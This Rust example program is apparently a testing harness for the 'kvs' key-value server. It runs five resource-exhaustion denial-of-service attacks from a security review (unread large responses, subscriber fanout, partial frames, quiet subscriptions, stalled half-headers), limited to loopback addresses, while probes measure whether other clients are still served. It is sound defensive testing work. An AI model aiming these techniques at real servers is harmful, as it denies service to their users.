//! A hostile client for `kvs`: each subcommand is one attack that a
//! security review found. An attack runs for a bounded time, against a
//! loopback address only, and then lets go of everything it holds.
//! Meanwhile a probe connects a fresh client every 200 ms and asks for one
//! small key of another table: are other clients still served, and how
//! fast?
//!
//! cargo run --release --example attack -- hget-unread --addr 127.0.0.1:9527
//!
//! It prints two lines: `result name=... key=value ...` for scripts, then
//! a sentence for people. `--scale 0.01` shrinks every default size and
//! count, for a quick test; `scripts/attack` runs each attack against a
//! fresh `kvs` and measures the server's memory.

use std::{
    io,
    net::SocketAddr,
    path::PathBuf,
    pin::Pin,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    task::{Context as TaskContext, Poll, ready},
    time::{Duration, Instant},
};

use anyhow::{Context, bail};
use bytes::{Bytes, BytesMut};
use clap::{Parser, Subcommand, ValueEnum};
use futures::StreamExt;
use kv::{
    Client, CommandRequest, CommandResponse, DEFAULT_MAX_FRAME, FrameCoder, MuxStream, Subscriber,
    TlsClientConnector, Value, value,
};
use tokio::{
    io::{AsyncRead, AsyncWrite, AsyncWriteExt, ReadBuf},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout, timeout_at},
};
use tokio_util::sync::CancellationToken;

/// The table and key that the probe reads.
const PROBE_TABLE: &str = "probe";
const PROBE_KEY: &str = "k";
/// The table, and the topic, that the attacks use.
const TABLE: &str = "attack";
/// The largest value that still fits in one request, with room for the
/// rest of the message, under the server's default frame limit.
const BIG_VALUE: usize = DEFAULT_MAX_FRAME - 64;

/// Attacks on the KV server, one at a time.
#[derive(Parser)]
struct Args {
    #[command(subcommand)]
    attack: Attack,

    /// The server's address; it must be a loopback address.
    #[arg(long, global = true, default_value = "127.0.0.1:9527")]
    addr: SocketAddr,

    /// The CA that signed the server's certificate (PEM).
    #[arg(
        long,
        global = true,
        value_name = "PATH",
        default_value = "dev-certs/ca.pem"
    )]
    ca: PathBuf,

    /// Multiplies every default size and count; 0.01 for a quick test.
    #[arg(long, global = true, default_value_t = 1.0)]
    scale: f64,

    /// What large compressible values are made of.
    #[arg(long, global = true, value_enum, default_value_t = Filler::Byte)]
    filler: Filler,

    /// Seconds to hold what an attack has built before letting go.
    #[arg(long, global = true, default_value_t = 10)]
    hold: u64,

    /// The most seconds an attack may spend building (sending frames): it
    /// stops there and reports what it did.
    #[arg(long, global = true, default_value_t = 60)]
    limit: u64,

    /// Milliseconds between two probes.
    #[arg(long, global = true, default_value_t = 200)]
    probe_every: u64,

    /// Milliseconds a probe may take before it counts as failed.
    #[arg(long, global = true, default_value_t = 5000)]
    probe_timeout: u64,
}

/// The attacks. Sizes are in bytes; an option not given takes its default
/// times `--scale`.
#[derive(Subcommand)]
enum Attack {
    /// Stores a large compressible value, asks for it on many streams of
    /// one connection, and reads none of the answers.
    HgetUnread {
        /// The value's size [default: 16 MiB less 64].
        #[arg(long)]
        size: Option<usize>,
        /// How many streams ask [default: 60; with the review's 30, kvs
        /// lived through about half the runs here].
        #[arg(long)]
        streams: Option<usize>,
        /// How many `hget` each stream sends, one after another. With one,
        /// fewer answers are being built at once, and the server may live.
        #[arg(long, default_value_t = 4)]
        requests: usize,
    },
    /// Subscribers on one connection that read nothing, and one large
    /// compressible `publish` from a second connection.
    PublishFanout {
        /// The published value's size [default: 16 MiB less 64].
        #[arg(long)]
        size: Option<usize>,
        /// How many subscriptions [default: 99].
        #[arg(long)]
        subscribers: Option<usize>,
        /// How many publishes, one after another [the review's one left
        /// kvs alive here, holding a few hundred MiB].
        #[arg(long, default_value_t = 64)]
        publishes: usize,
    },
    /// On each of many streams of one connection, a frame header for a
    /// large payload and all of that payload but its last byte.
    PartialFrames {
        /// The length the header claims [default: 16 MiB].
        #[arg(long)]
        size: Option<usize>,
        /// How many streams [default: 48; with 44, the review's figure,
        /// kvs peaked here 17 MiB short of a 1.5 GiB address space].
        #[arg(long)]
        streams: Option<usize>,
    },
    /// One quiet subscription on each of many connections: as many as the
    /// server's connection limit (start kvs with --max-connections 50).
    QuietSubscriptions {
        /// How many connections [default: 50].
        #[arg(long)]
        connections: Option<usize>,
    },
    /// Connections that finish the TLS handshake, open a stream and send
    /// two bytes of a frame header, then nothing.
    HalfHeader {
        /// How many connections [default: 1100].
        #[arg(long)]
        connections: Option<usize>,
        /// How many seconds to hold them, with the probe running
        /// [default: twice --hold].
        #[arg(long)]
        seconds: Option<u64>,
    },
}

impl Attack {
    fn name(&self) -> &'static str {
        match self {
            Attack::HgetUnread { .. } => "hget-unread",
            Attack::PublishFanout { .. } => "publish-fanout",
            Attack::PartialFrames { .. } => "partial-frames",
            Attack::QuietSubscriptions { .. } => "quiet-subscriptions",
            Attack::HalfHeader { .. } => "half-header",
        }
    }
}

/// The server under attack, and what the attacker has sent it.
struct Target {
    addr: SocketAddr,
    tls: TlsClientConnector,
    /// Bytes written to the attacker's TCP connections (probes not counted).
    sent: Arc<AtomicU64>,
    /// Cancelled when the attack is in place: the probe starts then.
    armed: CancellationToken,
}

impl Target {
    /// A TCP connection to `addr` whose writes are counted.
    async fn tcp(&self, addr: SocketAddr) -> anyhow::Result<Counted> {
        let tcp = TcpStream::connect(addr)
            .await
            .with_context(|| format!("cannot connect to {addr}"))?;
        tcp.set_nodelay(true)?;
        Ok(Counted {
            tcp,
            sent: Arc::clone(&self.sent),
        })
    }

    /// A multiplexed TLS connection to the server, counted.
    async fn connect(&self) -> anyhow::Result<Client> {
        let tcp = self.tcp(self.addr).await?;
        Ok(Client::new(self.tls.connect(tcp).await?))
    }

    /// Says that the attack is in place.
    fn arm(&self) {
        self.armed.cancel();
    }
}

/// A TCP stream that adds what it writes to a shared count.
struct Counted {
    tcp: TcpStream,
    sent: Arc<AtomicU64>,
}

impl AsyncRead for Counted {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut TaskContext<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<io::Result<()>> {
        Pin::new(&mut self.tcp).poll_read(cx, buf)
    }
}

impl AsyncWrite for Counted {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut TaskContext<'_>,
        buf: &[u8],
    ) -> Poll<io::Result<usize>> {
        let n = ready!(Pin::new(&mut self.tcp).poll_write(cx, buf))?;
        self.sent.fetch_add(n as u64, Ordering::Relaxed);
        Poll::Ready(Ok(n))
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut TaskContext<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.tcp).poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut TaskContext<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.tcp).poll_shutdown(cx)
    }
}

/// What an attack did, in a sentence, and its own numbers.
struct Report {
    did: String,
    fields: Vec<(&'static str, String)>,
}

impl Report {
    fn new(did: String) -> Self {
        Self {
            did,
            fields: Vec::new(),
        }
    }

    fn field(mut self, key: &'static str, value: impl ToString) -> Self {
        self.fields.push((key, value.to_string()));
        self
    }
}

/// A size for people: MiB above 1 MiB, else KiB or bytes.
fn human_size(bytes: usize) -> String {
    match bytes {
        0..1024 => format!("{bytes} B"),
        1024..1_048_576 => format!("{:.0} KiB", bytes as f64 / 1024.0),
        _ => format!("{:.1} MiB", bytes as f64 / 1_048_576.0),
    }
}

/// An error's text with its causes, without the link to a manual that
/// rustls adds to some.
fn brief(err: &(impl std::fmt::Display + ?Sized)) -> String {
    let text = format!("{err:#}");
    match text.split_once(": https://") {
        Some((head, _)) => head.to_owned(),
        None => text,
    }
}

/// A value for a `key=value` line: quoted if it has spaces, with no
/// double quote or line break inside.
fn field_value(text: &str) -> String {
    let text: String = text
        .chars()
        .map(|c| match c {
            '"' => '\'',
            '\n' | '\r' => ' ',
            c => c,
        })
        .collect();
    if text.is_empty() || text.contains(' ') {
        format!("\"{text}\"")
    } else {
        text
    }
}

/// What the probes saw: each probe's time, and whether it was served.
#[derive(Default)]
struct Probes {
    served: Vec<Duration>,
    failed: Vec<(Duration, String)>,
}

impl Probes {
    fn median_ms(&self) -> Option<f64> {
        let mut times = self.served.clone();
        times.sort_unstable();
        times.get(times.len() / 2).map(|t| ms(*t))
    }

    /// The longest a probe took, served or not.
    fn max_ms(&self) -> Option<f64> {
        let failed = self.failed.iter().map(|(t, _)| t);
        self.served.iter().chain(failed).max().map(|t| ms(*t))
    }

    fn within(&self, limit: Duration) -> usize {
        self.served.iter().filter(|t| **t <= limit).count()
    }
}

fn ms(time: Duration) -> f64 {
    (time.as_secs_f64() * 10_000.0).round() / 10.0
}

/// One fresh client: connect, TLS, one `hget` of the probe key.
async fn probe_once(addr: SocketAddr, tls: &TlsClientConnector) -> anyhow::Result<()> {
    let tcp = TcpStream::connect(addr).await.context("connect")?;
    tcp.set_nodelay(true)?;
    let client = Client::new(tls.connect(tcp).await?);
    let res = client
        .execute(CommandRequest::new_hget(PROBE_TABLE, PROBE_KEY))
        .await?;
    client.close().await;
    // 404 is an answer too: the probe key may be gone.
    if res.status != 200 && res.status != 404 {
        bail!("status {}: {}", res.status, res.message);
    }
    Ok(())
}

/// A probe every `every` until `stop`; each may take up to `limit`.
async fn probe_loop(
    addr: SocketAddr,
    tls: TlsClientConnector,
    every: Duration,
    limit: Duration,
    stop: CancellationToken,
) -> Probes {
    let mut tasks = JoinSet::new();
    let mut tick = tokio::time::interval(every);
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    loop {
        // Ticks first: at least one probe, however short the attack.
        tokio::select! {
            biased;
            _ = tick.tick() => {}
            () = stop.cancelled() => break,
        }
        let tls = tls.clone();
        tasks.spawn(async move {
            let start = Instant::now();
            let outcome = match timeout(limit, probe_once(addr, &tls)).await {
                Ok(Ok(())) => Ok(()),
                Ok(Err(err)) => Err(brief(&err)),
                Err(_) => Err(format!("no answer within {limit:?}")),
            };
            (start.elapsed(), outcome)
        });
    }
    let mut probes = Probes::default();
    while let Some(joined) = tasks.join_next().await {
        match joined {
            Ok((time, Ok(()))) => probes.served.push(time),
            Ok((time, Err(err))) => probes.failed.push((time, err)),
            Err(err) => probes.failed.push((Duration::ZERO, err.to_string())),
        }
    }
    probes
}

/// What a large compressible value is made of.
#[derive(Clone, Copy, ValueEnum)]
enum Filler {
    /// One byte again and again: gzip's best case, about 1000 to 1.
    Byte,
    /// A short sentence again and again: less small, slower to compress.
    Prose,
}

/// Text that compresses, `len` bytes of it.
fn compressible(len: usize, filler: Filler) -> String {
    let unit = match filler {
        Filler::Byte => "x",
        Filler::Prose => "a value that compresses, ",
    };
    let mut text = unit.repeat(len / unit.len() + 1);
    text.truncate(len);
    text
}

/// Bytes that do not compress: a xorshift sequence.
fn random_bytes(len: usize) -> Bytes {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let bytes: Vec<u8> = (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    bytes.into()
}

/// Fails unless the server answered 200.
fn expect_ok(res: CommandResponse) -> anyhow::Result<CommandResponse> {
    if !res.is_ok() {
        bail!("the server answered {}: {}", res.status, res.message);
    }
    Ok(res)
}

/// Writes `request` as one frame on `stream`, and reads nothing.
async fn send_frame(stream: &mut MuxStream, request: &CommandRequest) -> anyhow::Result<()> {
    let mut frame = BytesMut::new();
    request.encode_frame(&mut frame)?;
    stream.write_all(&frame).await?;
    stream.flush().await?;
    Ok(())
}

/// Raises this process's soft limit on open files to its hard limit: the
/// half-header attack needs more than the usual 1024.
fn raise_file_limit() {
    use rustix::process::{Resource, getrlimit, setrlimit};
    let mut limit = getrlimit(Resource::Nofile);
    limit.current = limit.maximum;
    if let Err(err) = setrlimit(Resource::Nofile, limit) {
        eprintln!("attack: cannot raise the open-file limit: {err}");
    }
}

/// Fails unless `addr` is on this machine.
fn loopback(addr: SocketAddr) -> anyhow::Result<SocketAddr> {
    if !addr.ip().is_loopback() {
        bail!("{addr} is not a loopback address: this tool attacks only servers on this machine");
    }
    Ok(addr)
}

/// `default` times `scale`, at least 1, unless `given`.
fn scaled(given: Option<usize>, default: usize, scale: f64) -> usize {
    given.unwrap_or_else(|| ((default as f64 * scale).round() as usize).max(1))
}

/// hget-unread: many answers of a large value, none of them read.
async fn hget_unread(
    t: &Target,
    (size, filler): (usize, Filler),
    (streams, requests): (usize, usize),
    hold: Duration,
) -> anyhow::Result<Report> {
    let client = t.connect().await?;
    let set = CommandRequest::new_hset(TABLE, "big", compressible(size, filler));
    expect_ok(client.execute(set).await?)?;
    let mut open = Vec::with_capacity(streams);
    for _ in 0..streams {
        let mut stream = client.open().await?;
        for _ in 0..requests {
            send_frame(&mut stream, &CommandRequest::new_hget(TABLE, "big")).await?;
        }
        open.push(stream);
    }
    t.arm();
    sleep(hold).await;
    Ok(Report::new(format!(
        "stored one {} compressible value, asked for it {requests} times on each of \
         {streams} streams of one connection and read no answer for {hold:?}",
        human_size(size)
    ))
    .field("streams", streams)
    .field("requests", requests))
}

/// publish-fanout: subscribers that read nothing, and one large publish.
async fn publish_fanout(
    t: &Target,
    (size, filler): (usize, Filler),
    (subscribers, publishes): (usize, usize),
    hold: Duration,
) -> anyhow::Result<Report> {
    let quiet = t.connect().await?;
    let mut subs: Vec<Subscriber> = Vec::with_capacity(subscribers);
    for _ in 0..subscribers {
        subs.push(quiet.subscribe(TABLE).await?);
    }
    let publisher = t.connect().await?;
    t.arm();
    let end = tokio::time::Instant::now() + hold;
    let value = Value::from(compressible(size, filler));
    let (mut answered, mut answer) = (0, String::from("none was answered"));
    for _ in 0..publishes {
        let publish = CommandRequest::new_publish(TABLE, [value.clone()]);
        answer = match timeout_at(end, publisher.execute(publish)).await {
            Ok(Ok(res)) => match res.values.first().and_then(|v| v.value.clone()) {
                Some(value::Value::Integer(n)) if res.is_ok() => format!("reached {n} subscribers"),
                _ => format!("was answered {} {}", res.status, res.message),
            },
            Ok(Err(err)) => format!("failed: {}", brief(&err)),
            Err(_) => format!("had no answer within {hold:?}"),
        };
        if !answer.starts_with("reached") {
            break;
        }
        answered += 1;
    }
    tokio::time::sleep_until(end).await;
    Ok(Report::new(format!(
        "{subscribers} subscribers on one connection read nothing; {answered} of {publishes} \
         gzip publishes of {} from a second connection were answered, the last {answer}; \
         held {hold:?}",
        human_size(size)
    ))
    .field("subscribers", subs.len())
    .field("publishes_answered", answered)
    .field("publish", answer))
}

/// partial-frames: on each stream, a large frame short of one byte.
async fn partial_frames(
    t: &Target,
    size: usize,
    streams: usize,
    (hold, limit): (Duration, Duration),
) -> anyhow::Result<Report> {
    let Ok(header) = u32::try_from(size) else {
        bail!("a frame of {size} bytes is too large for its header");
    };
    let client = t.connect().await?;
    let payload = random_bytes(size.saturating_sub(1));
    let mut writers = JoinSet::new();
    for _ in 0..streams {
        let mut stream = client.open().await?;
        let payload = payload.clone();
        writers.spawn(async move {
            stream.write_all(&header.to_be_bytes()).await?;
            stream.write_all(&payload).await?;
            stream.flush().await?;
            Ok::<_, io::Error>(stream)
        });
    }
    t.arm();
    let deadline = tokio::time::Instant::now() + limit;
    let (mut done, mut failed, mut held) = (0, 0, Vec::new());
    while let Ok(Some(joined)) = timeout_at(deadline, writers.join_next()).await {
        match joined {
            Ok(Ok(stream)) => {
                done += 1;
                held.push(stream);
            }
            _ => failed += 1,
        }
    }
    sleep(hold).await;
    Ok(Report::new(format!(
        "on {streams} streams of one connection, a header for {} and all of it but the last \
         byte ({done} sent whole, {failed} failed, {} unfinished); held {hold:?}",
        human_size(size),
        streams - done - failed
    ))
    .field("streams_sent", done)
    .field("streams_failed", failed))
}

/// quiet-subscriptions: one subscription per connection, held quietly.
async fn quiet_subscriptions(
    t: &Target,
    connections: usize,
    hold: Duration,
) -> anyhow::Result<Report> {
    let mut held = Vec::with_capacity(connections);
    let mut refused = Vec::new();
    for _ in 0..connections {
        let subscribe = async {
            let client = t.connect().await?;
            let sub = client.subscribe(TABLE).await?;
            anyhow::Ok((client, sub))
        };
        match timeout(Duration::from_secs(5), subscribe).await {
            Ok(Ok(pair)) => held.push(pair),
            Ok(Err(err)) => refused.push(brief(&err)),
            Err(_) => refused.push("no answer within 5 s".into()),
        }
    }
    t.arm();
    sleep(hold).await;
    let first = refused.first().cloned().unwrap_or_default();
    Ok(Report::new(format!(
        "held {} quiet subscriptions, one per connection, for {hold:?} ({} refused{})",
        held.len(),
        refused.len(),
        if first.is_empty() {
            String::new()
        } else {
            format!(", the first: {first}")
        }
    ))
    .field("held", held.len())
    .field("refused", refused.len()))
}

/// half-header: connections stalled inside their first frame's header.
async fn half_header(t: &Target, connections: usize, hold: Duration) -> anyhow::Result<Report> {
    let opened: Vec<anyhow::Result<(Client, MuxStream)>> = futures::stream::iter(0..connections)
        .map(|_| async {
            let stall = async {
                let client = t.connect().await?;
                let mut stream = client.open().await?;
                stream.write_all(&[0, 0]).await?;
                stream.flush().await?;
                anyhow::Ok((client, stream))
            };
            timeout(Duration::from_secs(10), stall)
                .await
                .unwrap_or_else(|_| Err(anyhow::anyhow!("no handshake within 10 s")))
        })
        .buffer_unordered(32)
        .collect()
        .await;
    let held = opened.iter().filter(|o| o.is_ok()).count();
    let first_err = opened.iter().find_map(|o| o.as_ref().err().map(brief));
    t.arm();
    sleep(hold).await;
    Ok(Report::new(format!(
        "{held} of {connections} connections finished TLS, opened a stream and sent 2 bytes \
         of a frame header, then nothing, for {hold:?}{}",
        first_err
            .map(|e| format!(" (first failure: {e})"))
            .unwrap_or_default()
    ))
    .field("held", held))
}

/// Runs the chosen attack with its options resolved.
async fn attack(t: &Target, args: &Args) -> anyhow::Result<Report> {
    let s = |given, default| scaled(given, default, args.scale);
    let hold = Duration::from_secs(args.hold);
    let twice = |given: Option<u64>| given.unwrap_or(2 * args.hold);
    let limit = Duration::from_secs(args.limit);
    match args.attack {
        Attack::HgetUnread {
            size,
            streams,
            requests,
        } => {
            let streams = (s(streams, 60), requests);
            let value = (s(size, BIG_VALUE), args.filler);
            hget_unread(t, value, streams, hold).await
        }
        Attack::PublishFanout {
            size,
            subscribers,
            publishes,
        } => {
            let value = (s(size, BIG_VALUE), args.filler);
            publish_fanout(t, value, (s(subscribers, 99), publishes), hold).await
        }
        Attack::PartialFrames { size, streams } => {
            let (size, streams) = (s(size, DEFAULT_MAX_FRAME), s(streams, 48));
            partial_frames(t, size, streams, (hold, limit)).await
        }
        Attack::QuietSubscriptions { connections } => {
            quiet_subscriptions(t, s(connections, 50), hold).await
        }
        Attack::HalfHeader {
            connections,
            seconds,
        } => {
            let hold = Duration::from_secs(twice(seconds));
            half_header(t, s(connections, 1100), hold).await
        }
    }
}

/// Probes for `secs` seconds with nothing else going on.
async fn baseline(t: &Target, args: &Args, secs: u64) -> Probes {
    let stop = CancellationToken::new();
    let probes = probe_loop(
        t.addr,
        t.tls.clone(),
        probe_every(args),
        probe_limit(args),
        stop.clone(),
    );
    let (probes, ()) = tokio::join!(probes, async {
        sleep(Duration::from_secs(secs)).await;
        stop.cancel();
    });
    probes
}

fn probe_every(args: &Args) -> Duration {
    Duration::from_millis(args.probe_every.max(1))
}

fn probe_limit(args: &Args) -> Duration {
    Duration::from_millis(args.probe_timeout.max(1))
}

/// Runs the attack, with the probe from when it is in place to its end.
async fn attack_with_probes(t: &Target, args: &Args) -> (anyhow::Result<Report>, Probes) {
    let stop = CancellationToken::new();
    let (armed, tls) = (t.armed.clone(), t.tls.clone());
    let (every, limit, addr, until) = (probe_every(args), probe_limit(args), t.addr, stop.clone());
    let probes = tokio::spawn(async move {
        tokio::select! {
            () = armed.cancelled() => probe_loop(addr, tls, every, limit, until).await,
            () = until.cancelled() => Probes::default(),
        }
    });
    let report = attack(t, args).await;
    stop.cancel();
    (report, probes.await.unwrap_or_default())
}

/// Prints the `result` line and the sentence.
fn print(name: &str, t: &Target, report: &anyhow::Result<Report>, probes: &Probes, base: &Probes) {
    let fmt_ms = |v: Option<f64>| v.map_or("-".into(), |v| v.to_string());
    let mut line = format!(
        "result name={name} sent_bytes={} probes={} served={} served_1s={} failed={} \
         p50_ms={} max_ms={} base_p50_ms={}",
        t.sent.load(Ordering::Relaxed),
        probes.served.len() + probes.failed.len(),
        probes.served.len(),
        probes.within(Duration::from_secs(1)),
        probes.failed.len(),
        fmt_ms(probes.median_ms()),
        fmt_ms(probes.max_ms()),
        fmt_ms(base.median_ms()),
    );
    let first_failure = probes.failed.first().map(|(_, err)| err.as_str());
    line += &format!(" probe_error={}", field_value(first_failure.unwrap_or("")));
    let (did, error) = match report {
        Ok(report) => {
            for (key, value) in &report.fields {
                line += &format!(" {key}={}", field_value(value));
            }
            (report.did.clone(), String::new())
        }
        Err(err) => ("the attack stopped early".to_owned(), brief(err)),
    };
    line += &format!(" error={} did={}", field_value(&error), field_value(&did));
    println!("{line}");
    println!(
        "{name}: {did}{}.",
        if error.is_empty() {
            String::new()
        } else {
            format!(": {error}")
        }
    );
    println!(
        "{name}: fresh clients while it lasted: {} of {} served, median {} ms, max {} ms \
         (before it: median {} ms).",
        probes.served.len(),
        probes.served.len() + probes.failed.len(),
        fmt_ms(probes.median_ms()),
        fmt_ms(probes.max_ms()),
        fmt_ms(base.median_ms()),
    );
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let addr = loopback(args.addr)?;
    raise_file_limit();
    let tls = TlsClientConnector::from_pem_files("localhost", &args.ca, None)?;
    let t = Target {
        addr,
        tls,
        sent: Arc::new(AtomicU64::new(0)),
        armed: CancellationToken::new(),
    };
    // The key the probe reads, set by a client of its own (not counted).
    let tcp = TcpStream::connect(addr)
        .await
        .with_context(|| format!("cannot connect to {addr}"))?;
    let setup = Client::new(t.tls.connect(tcp).await?);
    expect_ok(
        setup
            .execute(CommandRequest::new_hset(PROBE_TABLE, PROBE_KEY, 1i64))
            .await?,
    )?;
    setup.close().await;

    let base = baseline(&t, &args, 1).await;
    let (report, probes) = attack_with_probes(&t, &args).await;
    print(args.attack.name(), &t, &report, &probes, &base);
    Ok(())
}
